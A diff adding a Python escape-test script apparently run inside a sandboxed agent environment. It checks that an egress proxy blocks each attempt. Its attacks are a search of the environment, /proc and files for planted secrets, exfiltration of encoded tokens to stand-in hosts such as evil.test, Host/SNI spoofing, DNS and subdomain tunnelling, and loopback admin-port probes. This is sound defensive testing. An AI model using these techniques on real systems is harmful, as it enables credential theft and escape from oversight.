@@ -1,0 +1,498 @@
+#!/usr/bin/env python3
+"""The attacker: runs INSIDE a live bottle (SPEC §10) and tries every escape.
+
+Prints one JSON line per attempt: {"attack", "case", "outcome", "expect"}. `outcome` is
+what happened ("403:<X-Bottle-Block>", "200", "ENETUNREACH", ...), `expect` the outcomes
+that count as a failed escape. The host side (escape_suite.py) judges the lines and what
+its upstream and loopback listener saw. Standard library only.
+
+params.json (next to this file) holds ports and the secrets to plant, each reversed and
+hex-encoded so that no file or command line in the bottle holds a secret in clear text
+before attack 7 (the token hunt) has searched for it.
+"""
+import base64
+import errno
+import http.client
+import json
+import os
+import socket
+import ssl
+import subprocess
+import sys
+import time
+import urllib.parse
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+PROXY = ("127.0.0.1", 9099)
+CA = "/run/bottle/bottle-ca.pem"
+TIMEOUT = 8
+EGRESS_MARK = '"error":"egress: '
+
+
+def unhide(h):
+    return bytes.fromhex(h).decode()[::-1]
+
+
+P = json.load(open(os.path.join(HERE, "params.json")))
+PORT = P["upstream_port"]
+ALLOWED = "allowed.test"  # route: port PORT (plain) and 443 (bumped), token injected
+WILD = "wild.test"        # route: *.wild.test on PORT, no auth
+
+
+def emit(attack, case, outcome, expect, **extra):
+    line = {"attack": attack, "case": case, "outcome": outcome, "expect": expect}
+    line.update(extra)
+    print(json.dumps(line), flush=True)
+
+
+def err_name(e):
+    if isinstance(e, ssl.SSLError):
+        return "SSL:" + (e.reason or str(e))
+    if isinstance(e, socket.gaierror):
+        return "DNS:" + str(e.errno)
+    if isinstance(e, socket.timeout):
+        return "TIMEOUT"
+    if isinstance(e, OSError) and e.errno:
+        return errno.errorcode.get(e.errno, str(e.errno))
+    return type(e).__name__ + ":" + str(e)[:80]
+
+
+def judge_response(status, block, body):
+    """403 counts only with the egress marker in the body and the block header."""
+    if status == 403:
+        if EGRESS_MARK not in body:
+            return "403-without-egress-marker"
+        return "403:" + (block or "?")
+    return str(status)
+
+
+# --- HTTP through the proxy ------------------------------------------------------------
+
+def via_proxy(method, url, headers=None, body=None, host_header=None):
+    """Absolute-form request to the proxy; returns the judged outcome."""
+    try:
+        c = http.client.HTTPConnection(*PROXY, timeout=TIMEOUT)
+        c.putrequest(method, url, skip_host=True, skip_accept_encoding=True)
+        host = host_header or urllib.parse.urlsplit(url).netloc
+        c.putheader("Host", host)
+        for k, v in (headers or {}).items():
+            c.putheader(k, v)
+        if body is not None:
+            c.putheader("Content-Length", str(len(body)))
+        c.endheaders(body.encode() if body is not None else None)
+        r = c.getresponse()
+        text = r.read().decode("utf-8", "replace")
+        c.close()
+        return judge_response(r.status, r.getheader("X-Bottle-Block"), text), text
+    except Exception as e:  # every failure is an outcome to report, never a crash
+        return err_name(e), ""
+
+
+def recv_head(sock):
+    data = b""
+    while b"\r\n\r\n" not in data and len(data) < 65536:
+        chunk = sock.recv(4096)
+        if not chunk:
+            break
+        data += chunk
+    head, _, rest = data.partition(b"\r\n\r\n")
+    lines = head.decode("latin-1").split("\r\n")
+    status = int(lines[0].split()[1]) if lines and len(lines[0].split()) > 1 else 0
+    hdrs = {}
+    for l in lines[1:]:
+        k, _, v = l.partition(":")
+        hdrs[k.strip().lower()] = v.strip()
+    n = int(hdrs.get("content-length", "0") or 0)
+    while len(rest) < n:
+        chunk = sock.recv(4096)
+        if not chunk:
+            break
+        rest += chunk
+    return status, hdrs, rest.decode("utf-8", "replace")
+
+
+def via_connect(authority, sni, method, path, host_header, headers=None, body=None,
+                connect_headers=None):
+    """CONNECT authority, then TLS (SNI `sni`, bottle CA) and one request inside."""
+    try:
+        s = socket.create_connection(PROXY, timeout=TIMEOUT)
+        req = "CONNECT %s HTTP/1.1\r\nHost: %s\r\n" % (authority, authority)
+        for k, v in (connect_headers or {}).items():
+            req += "%s: %s\r\n" % (k, v)
+        s.sendall((req + "\r\n").encode())
+        status, hdrs, text = recv_head(s)
+        if status != 200:
+            s.close()
+            return judge_response(status, hdrs.get("x-bottle-block"), text), text
+        ctx = ssl.create_default_context(cafile=CA)
+        ctx.check_hostname = False  # SNI may be the attacker's; the chain is still checked
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        c = http.client.HTTPConnection(host_header, timeout=TIMEOUT)
+        c.sock = t
+        c.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+        c.putheader("Host", host_header)
+        for k, v in (headers or {}).items():
+            c.putheader(k, v)
+        if body is not None:
+            c.putheader("Content-Length", str(len(body)))
+        c.endheaders(body.encode() if body is not None else None)
+        r = c.getresponse()
+        text = r.read().decode("utf-8", "replace")
+        t.close()
+        return judge_response(r.status, r.getheader("X-Bottle-Block"), text), text
+    except Exception as e:
+        return err_name(e), ""
+
+
+def raw_connect(addr, family=socket.AF_INET):
+    """Direct TCP, no proxy; returns (outcome, milliseconds)."""
+    start = time.monotonic()
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect(addr)
+        out = "CONNECTED"
+    except Exception as e:
+        out = err_name(e)
+    finally:
+        s.close()
+    return out, int((time.monotonic() - start) * 1000)
+
+
+def curl(*args):
+    """Real tool, proxy from the bottle's environment (or -x / --noproxy in args)."""
+    try:
+        p = subprocess.run(["curl", "-sS", "--max-time", str(TIMEOUT), "-o", "/dev/stdout",
+                            "-w", "\n%{http_code} %{http_connect}"] + list(args),
+                           capture_output=True, text=True, timeout=TIMEOUT + 5)
+    except Exception as e:
+        return err_name(e), ""
+    body, _, codes = p.stdout.rpartition("\n")
+    code, _, connect = codes.partition(" ")
+    if connect not in ("000", "200", ""):
+        return "curl-connect-" + connect, p.stderr.strip()
+    if code in ("000", ""):
+        return "curl-exit-%d" % p.returncode, p.stderr.strip()
+    block = ""
+    if code == "403" and EGRESS_MARK in body:
+        try:
+            block = json.loads(body).get("reason", "")
+        except ValueError:
+            pass
+    return judge_response(int(code), block, body), body
+
+
+HTTPS_BODY_SKIP = ("needs an HTTPS upstream egress trusts: the orchestrator passes no "
+                   "--upstream-ca; the http-*-body cases cover body DLP")
+BLOCK_HOST = ["403:host_not_allowed"]
+BLOCK_HOST_OR_MISMATCH = ["403:host_not_allowed", "403:host_mismatch"]
+BLOCK_DLP = ["403:dlp_outbound"]
+NET = ["ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH"]
+
+
+# --- 7. the token hunt (first, before any attack leaves reflections around) -------------
+
+def attack7(hunted):
+    needles = [s.encode() for s in hunted]
+    env_hits = [k for k, v in os.environ.items() if any(s in v for s in hunted)]
+    emit("7", "env", "found:" + ",".join(env_hits) if env_hits else "clean", ["clean"])
+
+    procs, proc_hits = [], []
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            comm = open("/proc/%s/comm" % pid).read().strip()
+        except OSError:
+            continue
+        procs.append(comm)
+        for f in ("environ", "cmdline"):
+            try:
+                data = open("/proc/%s/%s" % (pid, f), "rb").read()
+            except OSError:
+                continue
+            if any(n in data for n in needles):
+                proc_hits.append("%s/%s(%s)" % (pid, f, comm))
+    sidecar = sorted(c for c in procs if c.startswith("bottle") or c in ("nginx",))
+    emit("7", "proc-sidecar-visible", "visible:" + ",".join(sidecar) if sidecar else "hidden",
+         ["hidden"], procs=procs)
+    emit("7", "proc-environ-cmdline", "found:" + ",".join(proc_hits) if proc_hits else "clean",
+         ["clean"])
+
+    visible = [p for p in P["host_paths"] if os.path.exists(p)]
+    emit("7", "host-state-dirs", "visible:" + ",".join(visible) if visible else "hidden",
+         ["hidden"])
+
+    # Every readable file, most likely places first, within a time budget. The priority
+    # roots must be covered completely.
+    me = os.path.abspath(os.path.join(HERE, "params.json"))
+    priority = ["/run", "/home", "/root", "/tmp", os.getcwd(), "/etc", "/var", "/opt",
+                "/srv", "/mnt", "/media"]
+    rest = sorted("/" + d for d in os.listdir("/") if "/" + d not in priority
+                  and d not in ("proc", "sys", "dev"))
+    deadline = time.monotonic() + P.get("walk_seconds", 25)
+    hits, done, files = [], [], 0
+    for root in priority + rest:
+        if not os.path.isdir(root):
+            done.append(root)
+            continue
+        complete = True
+        for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
+            if dirpath.startswith(("/proc", "/sys", "/dev")):
+                dirnames[:] = []
+                continue
+            if time.monotonic() > deadline:
+                complete = False
+                break
+            for fn in filenames:
+                path = os.path.join(dirpath, fn)
+                if path == me or os.path.islink(path):
+                    continue
+                try:
+                    if not os.path.isfile(path) or os.path.getsize(path) > 64 << 20:
+                        continue
+                    with open(path, "rb") as f:
+                        data = f.read()
+                except OSError:
+                    continue
+                files += 1
+                if any(n in data for n in needles):
+                    hits.append(path)
+        if complete:
+            done.append(root)
+    missing = [r for r in priority if r not in done]
+    emit("7", "files", "found:" + ",".join(hits) if hits else
+         ("incomplete:" + ",".join(missing) if missing else "clean"), ["clean"],
+         files=files, covered=done)
+
+
+# --- the other attacks --------------------------------------------------------------------
+
+def attack_legit():
+    out, body = via_proxy("GET", "http://%s:%d/legit" % (ALLOWED, PORT),
+                          headers={"Authorization": "Bearer agent-placeholder-value"})
+    emit("legit", "python-absolute-form", out, ["200"])
+    out, body = curl("-H", "Authorization: Bearer agent-placeholder-value",
+                     "http://%s:%d/legit-curl" % (ALLOWED, PORT))
+    emit("legit", "curl-env-proxy", out, ["200"])
+
+
+def attack1():
+    for host in ("evil.test", "exfil.invalid", "allowed.test.evil.test"):
+        out, _ = via_proxy("GET", "http://%s/x" % host)
+        emit("1", "http-" + host, out, BLOCK_HOST)
+        out, _ = via_connect(host + ":443", host, "GET", "/x", host)
+        emit("1", "connect-" + host, out, BLOCK_HOST)
+    out, _ = curl("http://evil.test/curl")
+    emit("1", "curl-http", out, BLOCK_HOST)
+    # curl cannot show a CONNECT response body; the raw CONNECT cases above do.
+    out, _ = curl("https://evil.test/curl")
+    emit("1", "curl-https", out, ["curl-connect-403"])
+    # A route exists for allowed.test on PORT and 443 only.
+    out, _ = via_proxy("GET", "http://%s:%d/other-port" % (ALLOWED, PORT + 1))
+    emit("1", "allowed-host-other-port", out, BLOCK_HOST + ["403:route_not_matched"])
+
+
+def attack2():
+    for ip in ("127.0.0.1", "[::1]", "2130706433", "0x7f.0.0.1", "127.1", "0.0.0.0"):
+        out, _ = via_proxy("GET", "http://%s:%d/ip" % (ip, PORT))
+        emit("2", "http-ip-" + ip, out, BLOCK_HOST + ["403:bad_request", "400"])
+    out, _ = via_connect("127.0.0.1:%d" % PORT, ALLOWED, "GET", "/ip", ALLOWED)
+    emit("2", "connect-ip", out, BLOCK_HOST)
+    out, _ = via_connect("127.0.0.1:443", ALLOWED, "GET", "/ip", ALLOWED)
+    emit("2", "connect-ip-443", out, BLOCK_HOST)
+    out, _ = via_proxy("GET", "http://127.0.0.1:%d/spoof" % PORT, host_header=ALLOWED)
+    emit("2", "ip-url-allowed-host-header", out, BLOCK_HOST_OR_MISMATCH)
+    out, _ = via_proxy("GET", "http://evil.test:%d/spoof" % PORT,
+                       host_header="%s:%d" % (ALLOWED, PORT))
+    emit("2", "evil-url-allowed-host-header", out, BLOCK_HOST_OR_MISMATCH)
+    out, _ = via_proxy("GET", "http://%s:%d/spoof" % (ALLOWED, PORT), host_header="evil.test")
+    emit("2", "allowed-url-evil-host-header", out, BLOCK_HOST_OR_MISMATCH)
+    out, _ = via_connect("evil.test:443", ALLOWED, "GET", "/spoof", ALLOWED)
+    emit("2", "connect-evil-sni-host-allowed", out, BLOCK_HOST)
+    out, _ = via_connect(ALLOWED + ":443", "evil.test", "GET", "/spoof", "evil.test")
+    emit("2", "connect-allowed-inner-evil", out, BLOCK_HOST_OR_MISMATCH)
+    out, _ = via_connect(ALLOWED + ":443", ALLOWED, "GET", "/spoof", "evil.test")
+    emit("2", "connect-allowed-host-evil", out, BLOCK_HOST_OR_MISMATCH)
+    out, _ = curl("--resolve", "%s:443:127.0.0.1" % ALLOWED, "-H", "Host: " + ALLOWED,
+                  "https://evil.test/resolve")
+    emit("2", "curl-resolve-host-spoof", out,
+         ["curl-connect-403"])
+    out, _ = curl("-H", "Host: " + ALLOWED, "http://evil.test:%d/resolve" % PORT)
+    emit("2", "curl-http-host-spoof", out, BLOCK_HOST_OR_MISMATCH)
+    # Around the proxy: the pinned address is the host's loopback, not the bottle's.
+    out, _ = curl("--noproxy", "*", "--resolve", "%s:%d:127.0.0.1" % (ALLOWED, PORT),
+                  "http://%s:%d/direct" % (ALLOWED, PORT))
+    emit("2", "curl-noproxy-resolve", out,
+         ["curl-exit-7"])
+
+
+def encodings(secret):
+    return {
+        "raw": secret,
+        "b64": base64.b64encode(secret.encode()).decode(),
+        "pct": "".join("%%%02X" % b for b in secret.encode()),
+    }
+
+
+def attack3(secrets):
+    for name, secret in secrets.items():
+        for enc, v in encodings(secret).items():
+            q = urllib.parse.quote(v, safe="%")
+            cases = {
+                "path": dict(method="GET", path="/leak/" + q),
+                "query": dict(method="GET", path="/leak?q=" + q),
+                "body": dict(method="POST", path="/leak", body="data=" + v),
+                "header": dict(method="GET", path="/leak", headers={"X-Custom": v}),
+            }
+            for where, c in cases.items():
+                tag = "%s-%s-%s" % (name, enc, where)
+                out, _ = via_proxy(c["method"], "http://%s:%d%s" % (ALLOWED, PORT, c["path"]),
+                                   headers=c.get("headers"), body=c.get("body"))
+                emit("3", "http-" + tag, out, BLOCK_DLP)
+                if where == "body":
+                    # egress reads a body only once the upstream is connected, and the
+                    # bottle's egress trusts no loopback HTTPS upstream (no --upstream-ca).
+                    emit("3", "https-" + tag, "not-run", BLOCK_DLP, skip=HTTPS_BODY_SKIP)
+                    continue
+                out, _ = via_connect(ALLOWED + ":443", ALLOWED, c["method"], c["path"], ALLOWED,
+                                     headers=c.get("headers"), body=c.get("body"))
+                emit("3", "https-" + tag, out, BLOCK_DLP)
+
+
+def dns_query(server, name="example.com", family=socket.AF_INET):
+    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\x00\x00\x01\x00\x01"
+    start = time.monotonic()
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    try:
+        s.connect(server)  # connected: an ICMP refusal comes back as ECONNREFUSED at once
+        s.send(q)
+        s.recv(512)
+        out = "ANSWERED"
+    except Exception as e:
+        out = err_name(e)
+    finally:
+        s.close()
+    return out, int((time.monotonic() - start) * 1000)
+
+
+def attack4(secrets):
+    ghp = secrets["planted-ghp"]
+    out, _ = via_proxy("GET", "http://%s.%s:%d/" % (ghp.lower(), ALLOWED, PORT))
+    emit("4", "subdomain-of-exact-route-http", out, BLOCK_HOST + BLOCK_DLP)
+    out, _ = via_connect("%s.%s:443" % (ghp.lower(), ALLOWED), ALLOWED, "GET", "/", ALLOWED)
+    emit("4", "subdomain-of-exact-route-connect", out, BLOCK_HOST + BLOCK_DLP)
+    out, _ = curl("https://%s.%s/" % (ghp.lower(), ALLOWED))
+    emit("4", "subdomain-curl", out,
+         ["curl-connect-403"])
+    # A wildcard route would forward any label: only DLP on the host name stops this.
+    # (The route token is not tried here: the host side would have to pin its name.)
+    for name in ("planted-ghp", "known-secret"):
+        label = secrets[name]
+        out, _ = via_proxy("GET", "http://%s.%s:%d/" % (label, WILD, PORT))
+        emit("4", "wildcard-label-http-" + name, out, BLOCK_DLP)
+        out, _ = via_connect("%s.%s:%d" % (label, WILD, PORT), label + "." + WILD, "GET", "/",
+                             "%s.%s:%d" % (label, WILD, PORT))
+        emit("4", "wildcard-label-connect-" + name, out, BLOCK_DLP)
+    for server in ("8.8.8.8", "1.1.1.1"):
+        out, ms = dns_query((server, 53))
+        emit("4", "udp-dns-" + server, out, ["ENETUNREACH"], ms=ms)
+    out, ms = dns_query(("2001:4860:4860::8888", 53), family=socket.AF_INET6)
+    emit("4", "udp-dns-v6", out, ["ENETUNREACH", "EADDRNOTAVAIL"], ms=ms)
+    for server in ("127.0.0.53", "127.0.0.1"):
+        out, ms = dns_query((server, 53))
+        emit("4", "udp-dns-loopback-" + server, out, ["ECONNREFUSED", "TIMEOUT"], ms=ms)
+    try:
+        socket.getaddrinfo("example.com", 443)
+        out = "RESOLVED"
+    except Exception as e:
+        out = "DNS-FAILED"
+    emit("4", "getaddrinfo", out, ["DNS-FAILED"])
+    for addr in (("1.1.1.1", 443), ("8.8.8.8", 53), ("10.0.0.1", 80)):
+        out, ms = raw_connect(addr)
+        emit("4", "tcp-%s:%d" % addr, out, ["ENETUNREACH"], ms=ms)
+    out, ms = raw_connect(("2606:4700:4700::1111", 443), socket.AF_INET6)
+    emit("4", "tcp-v6-public", out, ["ENETUNREACH", "EADDRNOTAVAIL"], ms=ms)
+    out, _ = curl("--noproxy", "*", "https://1.1.1.1/")
+    emit("4", "curl-noproxy-public", out,
+         ["curl-exit-7"])
+
+
+def attack5():
+    out, _ = via_proxy("POST", "http://%s:%d/org/app.git/git-receive-pack" % (ALLOWED, PORT),
+                       headers={"Content-Type": "application/x-git-receive-pack-request"},
+                       body="0000")
+    emit("5", "receive-pack-http", out, ["403:git_push_via_proxy"])
+    out, _ = via_connect(ALLOWED + ":443", ALLOWED, "POST", "/org/app.git/git-receive-pack",
+                         ALLOWED, headers={"Content-Type":
+                                           "application/x-git-receive-pack-request"},
+                         body="0000")
+    emit("5", "receive-pack-https", out, ["403:git_push_via_proxy"])
+    out, _ = via_proxy("GET", "http://%s:%d/org/app.git/info/refs?service=git-receive-pack"
+                       % (ALLOWED, PORT))
+    emit("5", "receive-pack-advertisement", out, ["403:git_push_via_proxy"])
+
+
+def attack6():
+    listener = P["host_listener_port"]
+    admin = wait_admin_port()
+    out, ms = raw_connect(("127.0.0.1", listener))
+    emit("6", "direct-host-listener", out, ["ECONNREFUSED"], ms=ms)
+    out, ms = raw_connect(("127.0.0.1", PORT))
+    emit("6", "direct-upstream", out, ["ECONNREFUSED"], ms=ms)
+    if admin is None:
+        emit("6", "admin-port-known", "no-admin-port-file", ["known"])
+        return
+    emit("6", "admin-port-known", "known", ["known"])
+    out, ms = raw_connect(("127.0.0.1", admin))
+    emit("6", "direct-admin", out, ["ECONNREFUSED"], ms=ms)
+    out, ms = raw_connect(("::1", admin), socket.AF_INET6)
+    emit("6", "direct-admin-v6", out, ["ECONNREFUSED", "EADDRNOTAVAIL", "ENETUNREACH"], ms=ms)
+    for host in ("127.0.0.1", "localhost", "[::1]"):
+        out, _ = via_proxy("GET", "http://%s:%d/metrics" % (host, admin))
+        emit("6", "proxy-admin-" + host, out, BLOCK_HOST)
+        out, _ = via_connect("%s:%d" % (host, admin), "localhost", "GET", "/metrics", host)
+        emit("6", "connect-admin-" + host, out, BLOCK_HOST)
+        out, _ = via_proxy("GET", "http://%s:%d/" % (host, listener))
+        emit("6", "proxy-listener-" + host, out, BLOCK_HOST)
+    # The allowed name pinned to loopback with allow_private: only its own port opens.
+    out, _ = via_proxy("GET", "http://%s:%d/metrics" % (ALLOWED, admin))
+    emit("6", "allowed-name-admin-port", out, BLOCK_HOST + ["403:route_not_matched"])
+    out, _ = via_connect("%s:%d" % (ALLOWED, admin), ALLOWED, "GET", "/metrics", ALLOWED)
+    emit("6", "allowed-name-admin-port-connect", out, BLOCK_HOST + ["403:route_not_matched"])
+    # --noproxy "": the bottle's NO_PROXY names 127.0.0.1, which would win over -x.
+    out, _ = curl("--noproxy", "", "-x", "http://127.0.0.1:9099",
+                  "http://127.0.0.1:%d/metrics" % admin)
+    emit("6", "curl-proxy-admin", out, BLOCK_HOST)
+
+
+def wait_admin_port():
+    path = os.path.join(HERE, "admin_port")
+    for _ in range(400):
+        try:
+            return int(open(path).read().strip())
+        except (OSError, ValueError):
+            time.sleep(0.05)
+    return None
+
+
+def main():
+    hunted = [unhide(h) for h in P["hunted_hex"]]
+    attack7(hunted)
+    secrets = {k: unhide(v) for k, v in P["planted_hex"].items()}
+    attack_legit()
+    attack1()
+    attack2()
+    attack3(secrets)
+    attack4(secrets)
+    attack5()
+    attack6()
+    print(json.dumps({"attack": "done"}), flush=True)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
